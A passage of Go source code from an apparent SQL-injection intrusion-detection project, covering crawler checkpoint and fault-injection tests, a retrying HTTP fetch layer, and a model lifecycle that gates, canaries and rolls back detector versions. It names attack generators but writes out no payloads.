	opts.Checkpoint = func(cp *Checkpoint) error {
		points++
		if points == stopAt {
			captured = cp
			return ErrStop
		}
		return nil
	}
	c := New(opts)
	var err error
	if kind == "api" {
		_, err = c.CrawlAPI(srv.URL)
	} else {
		_, err = c.CrawlHTML(srv.URL)
	}
	if !errors.Is(err, ErrStop) {
		t.Fatalf("killed crawl: err = %v, want ErrStop", err)
	}
	if captured == nil {
		t.Fatal("no checkpoint captured before stop")
	}

	// Round-trip through disk: resume must work from the serialized form.
	path := t.TempDir() + "/resume.json"
	if err := SaveCheckpoint(captured, path); err != nil {
		t.Fatal(err)
	}
	loaded, err := LoadCheckpoint(path)
	if err != nil {
		t.Fatal(err)
	}

	res, err := New(chaosOptions(srv)).Resume(loaded)
	if err != nil {
		t.Fatalf("resume: %v", err)
	}
	return res
}

func TestCheckpointResumeBitIdenticalHTML(t *testing.T) {
	const portalSeed = 23
	faults := faultify.Config{Seed: 13, Rates: faultify.Uniform(0.20), Repeats: 1}

	// Uninterrupted faulted run.
	srvA, _ := startFaultyPortal(t, portal.StyleHTML, 24, portalSeed, faults)
	resA, err := New(chaosOptions(srvA)).CrawlHTML(srvA.URL)
	if err != nil {
		t.Fatal(err)
	}

	// Kill-and-resume run on an identically seeded fresh server.
	srvB, _ := startFaultyPortal(t, portal.StyleHTML, 24, portalSeed, faults)
	resB := killAndResume(t, srvB, "html", 3, 2)

	if !reflect.DeepEqual(resA.Samples, resB.Samples) {
		t.Fatalf("resumed corpus differs:\nuninterrupted: %d samples\nresumed: %d samples",
			len(resA.Samples), len(resB.Samples))
	}
	if !reflect.DeepEqual(resA.CVEs, resB.CVEs) {
		t.Fatalf("resumed CVEs differ: %v vs %v", resB.CVEs, resA.CVEs)
	}
	if resA.PagesFetched != resB.PagesFetched {
		t.Fatalf("pages fetched: %d vs %d", resA.PagesFetched, resB.PagesFetched)
	}
}

func TestCheckpointResumeBitIdenticalAPI(t *testing.T) {
	const portalSeed = 24
	faults := faultify.Config{Seed: 17, Rates: faultify.Uniform(0.20), Repeats: 1}

	srvA, _ := startFaultyPortal(t, portal.StyleAPI, 30, portalSeed, faults)
	resA, err := New(chaosOptions(srvA)).CrawlAPI(srvA.URL)
	if err != nil {
		t.Fatal(err)
	}

	srvB, _ := startFaultyPortal(t, portal.StyleAPI, 30, portalSeed, faults)
	resB := killAndResume(t, srvB, "api", 1, 1)

	if !reflect.DeepEqual(resA.Samples, resB.Samples) {
		t.Fatalf("resumed API corpus differs: %d vs %d samples", len(resA.Samples), len(resB.Samples))
	}
	if !reflect.DeepEqual(resA.CVEs, resB.CVEs) {
		t.Fatalf("resumed API CVEs differ: %v vs %v", resB.CVEs, resA.CVEs)
	}
}

func TestCrawlAllSurvivesDeadPortal(t *testing.T) {
	gen := attackgen.NewGenerator(attackgen.CrawlProfile(), 25)
	p := portal.New("healthy", portal.StyleHTML, 5, portal.GenerateEntries(gen, 10))
	srv := httptest.NewServer(p.Handler())
	defer srv.Close()

	opts := chaosOptions(srv)
	c := New(opts)
	samples, results, err := c.CrawlAll([]string{srv.URL, "http://127.0.0.1:1"})
	if err == nil || !errors.Is(err, ErrNoPages) {
		t.Fatalf("err = %v, want joined error containing ErrNoPages", err)
	}
	if len(results) != 2 {
		t.Fatalf("got %d results, want partial results for both portals", len(results))
	}
	if len(samples) == 0 {
		t.Fatal("healthy portal's samples lost because a peer portal died")
	}
	dead := results[1]
	if dead.Health.PagesSkipped == 0 || dead.PagesFetched != 0 {
		t.Fatalf("dead portal health = %+v", dead.Health)
	}
}

func TestChaosPersistentFaultQuarantine(t *testing.T) {
	// Repeats<0: afflicted pages never recover. The crawl must still
	// terminate, quarantine them, and keep everything else.
	const portalSeed = 26
	faults := faultify.Config{Seed: 19, Rates: faultify.Uniform(0.10), Repeats: -1}
	srv, inj := startFaultyPortal(t, portal.StyleHTML, 25, portalSeed, faults)
	res, err := New(chaosOptions(srv)).CrawlHTML(srv.URL)
	if err != nil && !errors.Is(err, ErrNoPages) {
		t.Fatalf("crawl: %v", err)
	}
	st := inj.Snapshot()
	if st.Total() == 0 {
		t.Skip("no request afflicted at this seed/rate — nothing to assert")
	}
	if res.Health.PagesSkipped == 0 {
		t.Fatalf("health = %+v, want quarantined pages under persistent faults (stats %v)", res.Health, st)
	}
	if res.PagesFetched == 0 {
		t.Fatalf("crawl collected nothing despite only 10%% persistent faults: %+v", res.Health)
	}
}
