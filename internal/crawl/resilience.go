package crawl

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"time"

	"psigene/internal/resilience"
)

// Health counts a crawl's resilience events — the per-portal fault report
// the CLI prints and the chaos tests assert on.
type Health struct {
	// PagesFetched counts successful page fetches; PagesSkipped counts
	// pages quarantined after the retry budget (the crawl continues).
	PagesFetched int `json:"pages_fetched"`
	PagesSkipped int `json:"pages_skipped"`
	// Retries counts re-attempts after a retryable failure.
	Retries int `json:"retries"`
	// RateLimited counts honored 429 Retry-After responses.
	RateLimited int `json:"rate_limited"`
	// Malformed counts pages rejected by integrity validation (truncated
	// HTML, unparseable JSON) and retried.
	Malformed int `json:"malformed"`
	// BreakerTrips counts closed→open transitions; BreakerSkips counts
	// requests failed fast by an open breaker.
	BreakerTrips int `json:"breaker_trips"`
	BreakerSkips int `json:"breaker_skips"`
	// Quarantined lists the skipped page URLs (capped at quarantineListCap).
	Quarantined []string `json:"quarantined,omitempty"`
}

// quarantineListCap bounds the quarantined-URL list carried in Health.
const quarantineListCap = 64

// Sentinel errors surfaced by the resilient fetch path.
var (
	// ErrNoPages marks a portal where not a single page could be fetched.
	ErrNoPages = errors.New("crawl: no pages fetched")
	// errMalformed marks a page that failed integrity validation.
	errMalformed = errors.New("crawl: malformed page")
	// errBreakerOpen marks an attempt denied by an open circuit breaker.
	errBreakerOpen = errors.New("crawl: circuit breaker open")
	// errTooLarge marks a response body over the MaxBodyBytes cap.
	errTooLarge = errors.New("crawl: response body too large")
)

// fetchErr classifies one failed fetch attempt.
type fetchErr struct {
	err        error
	permanent  bool // retrying cannot help (4xx, oversized body)
	retryAfter int  // Retry-After seconds from a 429, 0 otherwise
}

func (e *fetchErr) Error() string { return e.err.Error() }
func (e *fetchErr) Unwrap() error { return e.err }

// sleep routes every delay — politeness, backoff, Retry-After — through
// the injectable sleeper so tests run without wall-clock waits.
func (c *Crawler) sleep(d time.Duration) {
	if d <= 0 {
		return
	}
	c.opts.Sleep(d)
}

// backoff computes the exponential-backoff-with-full-jitter delay for a
// retry: uniform in [0, min(BackoffMax, BackoffBase·2^attempt)). The
// jitter comes from the crawler's seeded generator (math/rand stays out so
// the package passes psigenelint's randsource check and the whole crawl is
// a function of Options.Seed).
func (c *Crawler) backoff(attempt int) time.Duration {
	return resilience.Backoff(c.rng, c.opts.BackoffBase, c.opts.BackoffMax, attempt)
}

// breakerFor returns (creating on demand) the host's circuit breaker.
func (c *Crawler) breakerFor(host string) *resilience.Breaker {
	b, ok := c.breakers[host]
	if !ok {
		b = resilience.NewBreaker(c.opts.BreakerThreshold, c.opts.BreakerCooldown)
		c.breakers[host] = b
	}
	return b
}

// hostOf extracts host:port from a URL for breaker keying.
func hostOf(rawurl string) string {
	rest := rawurl
	if i := strings.Index(rest, "://"); i >= 0 {
		rest = rest[i+3:]
	}
	if i := strings.IndexByte(rest, '/'); i >= 0 {
		rest = rest[:i]
	}
	return rest
}

// drainClose drains (bounded) and closes a response body so the
// connection can be reused and a malicious peer cannot hold memory.
func drainClose(body io.ReadCloser) {
	_, _ = io.Copy(io.Discard, io.LimitReader(body, 64<<10))
	_ = body.Close()
}

// parseRetryAfter reads a Retry-After header's delay-seconds form.
func parseRetryAfter(v string) int {
	n, err := strconv.Atoi(strings.TrimSpace(v))
	if err != nil || n < 0 {
		return 0
	}
	return n
}

// fetchRaw performs one bounded HTTP fetch: per-request context timeout,
// read cap via io.LimitReader, and drain-and-close on every path. The
// returned fetchErr classifies failures as retryable or permanent.
func (c *Crawler) fetchRaw(url string) (body, contentType string, ferr *fetchErr) {
	ctx, cancel := context.WithTimeout(context.Background(), c.opts.Timeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return "", "", &fetchErr{err: err, permanent: true}
	}
	resp, err := c.opts.Client.Do(req)
	if err != nil {
		// Timeouts, resets, refused connections: all worth retrying.
		return "", "", &fetchErr{err: err}
	}
	defer drainClose(resp.Body)
	contentType = resp.Header.Get("Content-Type")
	switch {
	case resp.StatusCode == http.StatusTooManyRequests:
		return "", contentType, &fetchErr{
			err:        fmt.Errorf("status %d", resp.StatusCode),
			retryAfter: parseRetryAfter(resp.Header.Get("Retry-After")),
		}
	case resp.StatusCode >= 500:
		return "", contentType, &fetchErr{err: fmt.Errorf("status %d", resp.StatusCode)}
	case resp.StatusCode != http.StatusOK:
		return "", contentType, &fetchErr{err: fmt.Errorf("status %d", resp.StatusCode), permanent: true}
	}
	b, err := io.ReadAll(io.LimitReader(resp.Body, c.opts.MaxBodyBytes+1))
	if err != nil {
		// Truncated transfer (unexpected EOF) or mid-read reset.
		return "", contentType, &fetchErr{err: err}
	}
	if int64(len(b)) > c.opts.MaxBodyBytes {
		return "", contentType, &fetchErr{err: errTooLarge, permanent: true}
	}
	return string(b), contentType, nil
}

// fetch runs the full resilient fetch for one page: circuit breaker,
// bounded retries with seeded full-jitter backoff, Retry-After honoring,
// and integrity validation (validate rejecting a body makes the attempt
// retryable — a garbled page is refetched, not parsed). health is updated
// as events happen. A non-nil error means the page is quarantined.
func (c *Crawler) fetch(url string, validate func(body string) error, health *Health) (string, string, error) {
	host := hostOf(url)
	br := c.breakerFor(host)
	attempts := 1 + c.opts.MaxRetries
	if attempts < 1 {
		attempts = 1
	}
	var lastErr error
	for a := 0; a < attempts; a++ {
		if a > 0 {
			health.Retries++
		}
		if !br.Allow() {
			health.BreakerSkips++
			lastErr = fmt.Errorf("%w (host %s)", errBreakerOpen, host)
			continue // fail fast: no network call, no sleep
		}
		body, ctype, ferr := c.fetchRaw(url)
		if ferr == nil && validate != nil {
			if verr := validate(body); verr != nil {
				health.Malformed++
				ferr = &fetchErr{err: fmt.Errorf("%w: %v", errMalformed, verr)}
			}
		}
		if ferr == nil {
			br.Success()
			return body, ctype, nil
		}
		if br.Failure() {
			health.BreakerTrips++
		}
		lastErr = ferr.err
		if ferr.permanent {
			return "", "", fmt.Errorf("fetch %s: %w", url, ferr.err)
		}
		if a == attempts-1 {
			break
		}
		if ferr.retryAfter > 0 {
			health.RateLimited++
			c.sleep(time.Duration(ferr.retryAfter) * time.Second)
		} else {
			c.sleep(c.backoff(a))
		}
	}
	return "", "", fmt.Errorf("fetch %s: retries exhausted: %w", url, lastErr)
}

// validateHTML is the integrity check for HTML pages: the portals always
// emit a closing </html>, so a body without one was cut short or garbled
// in flight and should be refetched rather than parsed for links.
func validateHTML(body string) error {
	if !strings.Contains(body, "</html>") {
		return errors.New("truncated or garbled HTML (no closing </html>)")
	}
	return nil
}

// quarantine records a page the crawl gave up on and moves on.
func quarantine(st *crawlState, url string) {
	st.res.Health.PagesSkipped++
	if len(st.res.Health.Quarantined) < quarantineListCap {
		st.res.Health.Quarantined = append(st.res.Health.Quarantined, url)
	}
}
