package lifecycle

import (
	"net/http"
	"net/http/httptest"
	"strings"

	"psigene/internal/attackgen"
	"psigene/internal/httpx"
	"psigene/internal/traffic"
)

// ReplayMix drives a deterministic benign/attack traffic mix through a
// handler (a gateway's data path) and returns the response status codes
// in request order. The mix interleaves the two streams evenly
// (Bresenham-style, no randomness beyond the seeded generators), so the
// same seed and counts always produce the same request sequence — the
// chaos tests compare the full status sequence across runs byte for
// byte. Attacks come from the sqlmap profile, the tool corpus the gate
// also holds candidates to.
func ReplayMix(h http.Handler, benign, attacks int, seed int64) []int {
	breqs := traffic.NewGenerator(seed).Requests(benign)
	areqs := attackgen.NewGenerator(attackgen.SQLMapProfile(), seed+1).Requests(attacks)

	total := benign + attacks
	codes := make([]int, 0, total)
	ai, bi := 0, 0
	for i := 0; i < total; i++ {
		var req httpx.Request
		// An attack is due whenever the even-spread quota through
		// position i+1 exceeds the attacks already sent.
		switch {
		case ai < attacks && (i+1)*attacks > ai*total:
			req, ai = areqs[ai], ai+1
		case bi < benign:
			req, bi = breqs[bi], bi+1
		default:
			req, ai = areqs[ai], ai+1
		}
		codes = append(codes, do(h, req))
	}
	return codes
}

// do issues one httpx request against the handler in-process.
func do(h http.Handler, req httpx.Request) int {
	method := req.Method
	if method == "" {
		method = http.MethodGet
	}
	target := req.Path
	if target == "" {
		target = "/"
	}
	if req.RawQuery != "" {
		target += "?" + req.RawQuery
	}
	var body *strings.Reader
	hr := httptest.NewRequest(method, target, nil)
	if req.Body != "" {
		body = strings.NewReader(req.Body)
		hr = httptest.NewRequest(method, target, body)
		hr.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, hr)
	return w.Code
}
