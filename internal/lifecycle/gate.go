package lifecycle

import (
	"fmt"

	"psigene/internal/analysis"
	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/ids"
	"psigene/internal/traffic"
)

// GateConfig sets the bars a candidate model must clear before it may
// canary. The zero value gets usable defaults (see fill).
type GateConfig struct {
	// MinTPR is the per-tool detection-rate floor: the candidate must
	// reach it against every evaluation tool corpus. Default 0.90.
	MinTPR float64
	// MaxFPR is the false-alarm ceiling on benign traffic. Default 0.05.
	MaxFPR float64
	// AttackTests is the per-tool attack corpus size; BenignTests the
	// benign corpus size. Defaults 400 and 1000.
	AttackTests, BenignTests int
	// Seed keys the evaluation corpora generators.
	Seed int64
	// ProbeSamples and ProbeSeed configure the probe corpus behind the
	// signature audit (analysis.AuditModel); ProbeSamples 0 uses
	// analysis.DefaultProbeSamples, negative disables the corpus checks.
	ProbeSamples int
	ProbeSeed    int64
	// MaxSubsumed, when non-nil, caps the audit's subsumed-signature
	// count. Trained sets legitimately carry some subsumption (broad
	// signatures are the paper's point), so the runner fills this with
	// the serving model's own count: only regressions fail the gate. Nil
	// means unlimited.
	MaxSubsumed *int
	// MaxDeadSignatures caps the audit's dead-signature count (signatures
	// whose threshold no probe can reach). Default 0: dead weight never
	// ships.
	MaxDeadSignatures int
}

func (c GateConfig) fill() GateConfig {
	if c.MinTPR == 0 {
		c.MinTPR = 0.90
	}
	if c.MaxFPR == 0 {
		c.MaxFPR = 0.05
	}
	if c.AttackTests == 0 {
		c.AttackTests = 400
	}
	if c.BenignTests == 0 {
		c.BenignTests = 1000
	}
	if c.ProbeSamples == 0 {
		c.ProbeSamples = analysis.DefaultProbeSamples
	}
	if c.ProbeSeed == 0 {
		c.ProbeSeed = analysis.DefaultProbeSeed
	}
	return c
}

// ToolResult is the gate's per-tool detection record.
type ToolResult struct {
	Tool string  `json:"tool"`
	TPR  float64 `json:"tpr"`
	TP   int     `json:"tp"`
	FN   int     `json:"fn"`
}

// GateReport is the full verdict on one candidate. Every field is a pure
// function of the model and the gate seeds — no maps, no timestamps — so
// same-seed gate runs marshal to identical JSON.
type GateReport struct {
	Version string       `json:"version"`
	Tools   []ToolResult `json:"tools"`
	FPR     float64      `json:"fpr"`
	FP      int          `json:"fp"`
	TN      int          `json:"tn"`
	// DeadSignatures, Subsumed and NeverMatch are the audit counts from
	// analysis.AuditModel.
	DeadSignatures int `json:"deadSignatures"`
	Subsumed       int `json:"subsumed"`
	NeverMatch     int `json:"neverMatch"`
	// Pass is the verdict; Reasons lists every floor the candidate
	// missed (empty on pass).
	Pass    bool     `json:"pass"`
	Reasons []string `json:"reasons,omitempty"`
}

// gateTools are the attack corpora a candidate is held to — the same
// three scanner profiles the paper's Experiment 1 generalizes across.
var gateTools = []struct {
	name    string
	profile func() attackgen.Profile
}{
	{"sqlmap", attackgen.SQLMapProfile},
	{"arachni", attackgen.ArachniProfile},
	{"vega", attackgen.VegaProfile},
}

// RunGate evaluates one candidate against the gate's floors: per-tool
// TPR, benign FPR, and the signature audit (dead and subsumed
// signatures). The candidate never sees production traffic here — gating
// is entirely synthetic and deterministic, so a candidate that fails
// costs nothing but the compute.
func RunGate(m *core.Model, version string, cfg GateConfig) GateReport {
	cfg = cfg.fill()
	rep := GateReport{Version: version}

	for i, tool := range gateTools {
		attacks := attackgen.NewGenerator(tool.profile(), cfg.Seed+int64(i)+1).Requests(cfg.AttackTests)
		res := ids.Evaluate(m, attacks)
		tr := ToolResult{Tool: tool.name, TPR: res.TPR(), TP: res.TP, FN: res.FN}
		rep.Tools = append(rep.Tools, tr)
		if tr.TPR < cfg.MinTPR {
			rep.Reasons = append(rep.Reasons, fmt.Sprintf("TPR(%s) %.4f < %.4f", tool.name, tr.TPR, cfg.MinTPR))
		}
	}

	benign := traffic.NewGenerator(cfg.Seed).Requests(cfg.BenignTests)
	res := ids.Evaluate(m, benign)
	rep.FPR, rep.FP, rep.TN = res.FPR(), res.FP, res.TN
	if rep.FPR > cfg.MaxFPR {
		rep.Reasons = append(rep.Reasons, fmt.Sprintf("FPR %.4f > %.4f", rep.FPR, cfg.MaxFPR))
	}

	var corpus []string
	if cfg.ProbeSamples > 0 {
		corpus = analysis.ProbeCorpus(cfg.ProbeSamples, cfg.ProbeSeed)
	}
	counts := analysis.CountByCheck(analysis.AuditModel(m, corpus, version))
	rep.DeadSignatures = counts[analysis.CheckDeadSig]
	rep.Subsumed = counts[analysis.CheckSubsumed]
	rep.NeverMatch = counts[analysis.CheckNeverMatch]
	if rep.DeadSignatures > cfg.MaxDeadSignatures {
		rep.Reasons = append(rep.Reasons, fmt.Sprintf("dead signatures %d > %d", rep.DeadSignatures, cfg.MaxDeadSignatures))
	}
	if cfg.MaxSubsumed != nil && rep.Subsumed > *cfg.MaxSubsumed {
		rep.Reasons = append(rep.Reasons, fmt.Sprintf("subsumed signatures %d > %d", rep.Subsumed, *cfg.MaxSubsumed))
	}

	rep.Pass = len(rep.Reasons) == 0
	return rep
}
