package lifecycle

import (
	"fmt"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/crawl"
	"psigene/internal/gateway"
	"psigene/internal/httpx"
	"psigene/internal/normalize"
)

// A Source feeds each lifecycle round its fresh attack samples. round is
// 1-based and strictly increasing, so sources can vary their output per
// round deterministically (new seed, next portal) without any clock.
type Source interface {
	Fetch(round int) ([]httpx.Request, error)
}

// CrawlSource crawls one portal per fetch, reusing the crawl package's
// checkpoint machinery: every fetch persists progress to CheckpointPath,
// and a fetch that finds an unfinished checkpoint resumes it instead of
// restarting — a faulty portal yields its samples across rounds rather
// than losing them. A fetch that crawls partially (injected faults, dead
// portal) returns what it got with no error; the lifecycle treats a thin
// round like any other.
type CrawlSource struct {
	// URL is the portal base URL; API selects the JSON API crawl instead
	// of the HTML one.
	URL string
	API bool
	// Options configures the crawler. CheckpointEvery defaults to 1 so
	// even a first-page fault loses nothing.
	Options crawl.Options
	// CheckpointPath, when non-empty, persists crawl progress between
	// fetches.
	CheckpointPath string
}

// Fetch implements Source.
func (s *CrawlSource) Fetch(round int) ([]httpx.Request, error) {
	opts := s.Options
	if s.CheckpointPath != "" {
		if opts.CheckpointEvery == 0 {
			opts.CheckpointEvery = 1
		}
		opts.Checkpoint = func(cp *crawl.Checkpoint) error {
			return crawl.SaveCheckpoint(cp, s.CheckpointPath)
		}
	}
	c := crawl.New(opts)

	var res *crawl.Result
	var err error
	resumed := false
	if s.CheckpointPath != "" {
		if cp, cperr := crawl.LoadCheckpoint(s.CheckpointPath); cperr == nil && cp != nil && !cp.Done {
			res, err = c.Resume(cp)
			resumed = true
		}
	}
	if !resumed {
		if s.API {
			res, err = c.CrawlAPI(s.URL)
		} else {
			res, err = c.CrawlHTML(s.URL)
		}
	}
	if res == nil {
		return nil, err
	}
	// A partial crawl is a thin round, not a failure: the checkpoint
	// carries the frontier into the next fetch.
	return res.Samples, nil
}

// GenSource synthesizes fresh attack samples per round from an attackgen
// profile, reseeded per round so every round sees new payloads. It stands
// in for a live portal in benches and the CLI's synthetic mode.
type GenSource struct {
	Profile attackgen.Profile
	Seed    int64
	N       int
}

// Fetch implements Source.
func (s GenSource) Fetch(round int) ([]httpx.Request, error) {
	return attackgen.NewGenerator(s.Profile, s.Seed+int64(round)).Requests(s.N), nil
}

// RoundSources rotates over its members round-robin, one per round —
// the multi-portal schedule the paper's crawler walks.
type RoundSources []Source

// Fetch implements Source.
func (s RoundSources) Fetch(round int) ([]httpx.Request, error) {
	if len(s) == 0 {
		return nil, fmt.Errorf("lifecycle: no sources")
	}
	return s[(round-1)%len(s)].Fetch(round)
}

// CanaryOptions sets the canary stage's promotion bars.
type CanaryOptions struct {
	// Fraction and Seed configure the gateway's deterministic traffic
	// sampling (see gateway.CanaryConfig). Fraction 0 means 1.
	Fraction float64
	Seed     int64
	// MinSampled is the minimum shadow-scored request count for a
	// promotion — an unobserved candidate never promotes. Default 1.
	MinSampled int64
	// MaxRegressions caps OldOnly disagreements (requests the serving
	// model alerted on but the candidate missed). NewOnly disagreements
	// — the candidate catching what the old model missed — are the point
	// of retraining and never block. Default 0.
	MaxRegressions int64
}

// RunnerConfig assembles a Runner's policy knobs.
type RunnerConfig struct {
	Gate   GateConfig
	Canary CanaryOptions
	// Tamper, when set, may replace the candidate model just before it
	// is saved — the chaos tests' fault hook for injecting a bad
	// candidate (returning nil keeps the real one). The master training
	// state is never the candidate object handed out, so a doctored
	// candidate cannot poison later rounds.
	Tamper func(round int, candidate *core.Model) *core.Model
}

// Runner drives the continuous lifecycle over a Store, an optional
// serving gateway, and a sample Source. It owns the "master" model — the
// one object that retains training state across rounds; every served or
// gated model is a loaded artifact copy, never the master itself.
//
// Rejected rounds keep their samples absorbed in the master (they were
// real observations; rejection judged the resulting model, not the data)
// — the next round's candidate retrains on the cumulative corpus.
type Runner struct {
	store  *Store
	source Source
	cfg    RunnerConfig

	gw      *gateway.Gateway
	master  *core.Model
	coreCfg core.Config

	// seen dedupes normalized payloads across rounds; corpus is the
	// cumulative normalized training corpus in first-seen order, whose
	// fingerprint every manifest records.
	seen   map[string]bool
	corpus []string

	round int
}

// NewRunner builds a runner over store and source.
func NewRunner(store *Store, source Source, cfg RunnerConfig) *Runner {
	return &Runner{store: store, source: source, cfg: cfg, seen: make(map[string]bool)}
}

// Bootstrap trains the initial model from scratch, saves it as the
// store's first version and promotes it. The store must be empty.
func (r *Runner) Bootstrap(attacks, benign []httpx.Request, coreCfg core.Config) (core.Manifest, error) {
	if cur, err := r.store.Current(); err != nil {
		return core.Manifest{}, err
	} else if cur != "" {
		return core.Manifest{}, fmt.Errorf("lifecycle: store already has a current model (%s)", cur)
	}
	m, err := core.Train(attacks, benign, coreCfg)
	if err != nil {
		return core.Manifest{}, fmt.Errorf("lifecycle: bootstrap train: %w", err)
	}
	r.master = m
	r.coreCfg = coreCfg
	r.absorb(attacks)

	version, err := r.store.NextVersion()
	if err != nil {
		return core.Manifest{}, err
	}
	man, err := r.store.SaveCandidate(m, core.Manifest{
		Version:           version,
		CorpusFingerprint: core.FingerprintStrings(r.corpus),
	})
	if err != nil {
		return man, err
	}
	if err := r.store.SetCurrent(version); err != nil {
		return man, err
	}
	return man, nil
}

// absorb records the normalized payloads of reqs in the dedup set and
// cumulative corpus, returning only the previously unseen requests.
func (r *Runner) absorb(reqs []httpx.Request) []httpx.Request {
	var fresh []httpx.Request
	for _, req := range reqs {
		n := normalize.Normalize(req.Payload())
		if r.seen[n] {
			continue
		}
		r.seen[n] = true
		r.corpus = append(r.corpus, n)
		fresh = append(fresh, req)
	}
	return fresh
}

// AttachGateway connects the serving gateway the canary stage runs
// against. Without one, gate-passing candidates promote directly.
func (r *Runner) AttachGateway(g *gateway.Gateway) { r.gw = g }

// CurrentDetector loads the store's current model — the hash-verified
// artifact copy a gateway should serve — with its manifest.
func (r *Runner) CurrentDetector() (*core.Model, core.Manifest, error) {
	cur, err := r.store.Current()
	if err != nil {
		return nil, core.Manifest{}, err
	}
	if cur == "" {
		return nil, core.Manifest{}, fmt.Errorf("lifecycle: store has no current model")
	}
	return r.store.Load(cur)
}

// Decision is one round's outcome, appended to the store's decision
// journal as a JSON line. Action is one of "promoted", "gate-rejected",
// "canary-rejected", "no-change", "rolled-back".
type Decision struct {
	Round        int                   `json:"round"`
	Action       string                `json:"action"`
	Version      string                `json:"version,omitempty"`
	Parent       string                `json:"parent,omitempty"`
	FreshSamples int                   `json:"freshSamples"`
	Gate         *GateReport           `json:"gate,omitempty"`
	Canary       *gateway.CanaryReport `json:"canary,omitempty"`
}

// Round runs one full lifecycle round: fetch fresh samples, retrain the
// master incrementally, save the candidate artifact, gate it, and — when
// a gateway is attached — canary it under the traffic that replay drives
// before promoting or rejecting. replay is called exactly once per round
// that reaches the canary stage; it should push traffic through the
// gateway and return when done (the chaos tests replay deterministic
// mixes; production would just sleep on live traffic). A rejection at any
// stage leaves the serving model and the store's CURRENT untouched.
func (r *Runner) Round(replay func() error) (*Decision, error) {
	if r.master == nil {
		return nil, fmt.Errorf("lifecycle: runner not bootstrapped")
	}
	r.round++
	d := &Decision{Round: r.round, Action: "no-change"}

	reqs, err := r.source.Fetch(r.round)
	if err != nil && len(reqs) == 0 {
		// A dead source is a skipped round, recorded as such: the
		// lifecycle is a loop, not a pipeline that dies with one portal.
		return d, r.store.appendDecision(d)
	}
	fresh := r.absorb(reqs)
	d.FreshSamples = len(fresh)
	if len(fresh) == 0 {
		return d, r.store.appendDecision(d)
	}

	if err := r.master.Update(fresh); err != nil {
		return nil, fmt.Errorf("lifecycle: retrain: %w", err)
	}
	candidate := r.master
	if r.cfg.Tamper != nil {
		if t := r.cfg.Tamper(r.round, candidate); t != nil {
			candidate = t
		}
	}

	parent, err := r.store.Current()
	if err != nil {
		return nil, err
	}
	version, err := r.store.NextVersion()
	if err != nil {
		return nil, err
	}
	d.Version, d.Parent = version, parent
	if _, err := r.store.SaveCandidate(candidate, core.Manifest{
		Version:           version,
		Parent:            parent,
		CorpusFingerprint: core.FingerprintStrings(r.corpus),
	}); err != nil {
		return nil, err
	}

	// Gate the loaded artifact copy, not the in-memory object: what is
	// judged is exactly what would serve.
	loaded, man, err := r.store.Load(version)
	if err != nil {
		return nil, err
	}
	gate := RunGate(loaded, version, r.gateConfigFor(parent))
	d.Gate = &gate
	if !gate.Pass {
		d.Action = "gate-rejected"
		return d, r.store.appendDecision(d)
	}

	if r.gw == nil {
		if err := r.store.SetCurrent(version); err != nil {
			return nil, err
		}
		d.Action = "promoted"
		return d, r.store.appendDecision(d)
	}

	// Canary: shadow-score the replayed traffic, then promote or abort.
	canaryCfg := gateway.CanaryConfig{
		Fraction: r.cfg.Canary.Fraction,
		Seed:     r.cfg.Canary.Seed,
		Version:  version,
		Hash:     man.ModelSHA256,
	}
	if err := r.gw.StartCanary(loaded, canaryCfg); err != nil {
		return nil, fmt.Errorf("lifecycle: start canary: %w", err)
	}
	if replay != nil {
		if err := replay(); err != nil {
			r.gw.AbortCanary()
			return nil, fmt.Errorf("lifecycle: canary replay: %w", err)
		}
	}
	rep, ok := r.gw.CanaryReport()
	if !ok {
		return nil, fmt.Errorf("lifecycle: canary vanished mid-round")
	}
	d.Canary = &rep

	minSampled := r.cfg.Canary.MinSampled
	if minSampled == 0 {
		minSampled = 1
	}
	if rep.Panics > 0 || rep.Sampled < minSampled || rep.OldOnly > r.cfg.Canary.MaxRegressions {
		r.gw.AbortCanary()
		d.Action = "canary-rejected"
		return d, r.store.appendDecision(d)
	}
	if _, err := r.gw.PromoteCanary(); err != nil {
		return nil, fmt.Errorf("lifecycle: promote canary: %w", err)
	}
	if err := r.store.SetCurrent(version); err != nil {
		return nil, err
	}
	d.Action = "promoted"
	return d, r.store.appendDecision(d)
}

// gateConfigFor returns the gate config with the subsumed-signature
// allowance pinned to the serving model's own audit count, so only
// regressions fail — unless the caller already set an explicit cap.
func (r *Runner) gateConfigFor(parent string) GateConfig {
	cfg := r.cfg.Gate
	if cfg.MaxSubsumed != nil || parent == "" {
		return cfg
	}
	serving, _, err := r.store.Load(parent)
	if err != nil {
		return cfg
	}
	base := RunGate(serving, parent, baselineAuditConfig(cfg))
	allowance := base.Subsumed
	cfg.MaxSubsumed = &allowance
	return cfg
}

// baselineAuditConfig strips the gate down to the audit-only pass used to
// measure the serving model's baseline subsumption: tiny eval corpora (the
// TPR/FPR numbers are discarded), same probe corpus as the real gate.
func baselineAuditConfig(cfg GateConfig) GateConfig {
	cfg = cfg.fill()
	cfg.AttackTests = 1
	cfg.BenignTests = 1
	return cfg
}

// Rollback demotes CURRENT to its parent version: the parent artifact is
// loaded, swapped into the attached gateway (if any), and CURRENT
// repointed. The demoted artifact stays in the store — rollback rewinds
// the pointer, it does not erase history.
func (r *Runner) Rollback() (*Decision, error) {
	cur, err := r.store.Current()
	if err != nil {
		return nil, err
	}
	if cur == "" {
		return nil, fmt.Errorf("lifecycle: nothing to roll back")
	}
	man, err := r.store.Manifest(cur)
	if err != nil {
		return nil, err
	}
	if man.Parent == "" {
		return nil, fmt.Errorf("lifecycle: %s has no parent to roll back to", cur)
	}
	m, pman, err := r.store.Load(man.Parent)
	if err != nil {
		return nil, fmt.Errorf("lifecycle: load rollback target: %w", err)
	}
	if r.gw != nil {
		if _, err := r.gw.SwapTagged(m, pman.Version, pman.ModelSHA256); err != nil {
			return nil, fmt.Errorf("lifecycle: rollback swap: %w", err)
		}
	}
	if err := r.store.SetCurrent(man.Parent); err != nil {
		return nil, err
	}
	d := &Decision{Round: r.round, Action: "rolled-back", Version: man.Parent, Parent: pman.Parent}
	return d, r.store.appendDecision(d)
}
