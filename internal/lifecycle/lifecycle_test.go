package lifecycle

import (
	"bytes"
	"fmt"
	"net/http"
	"net/http/httptest"
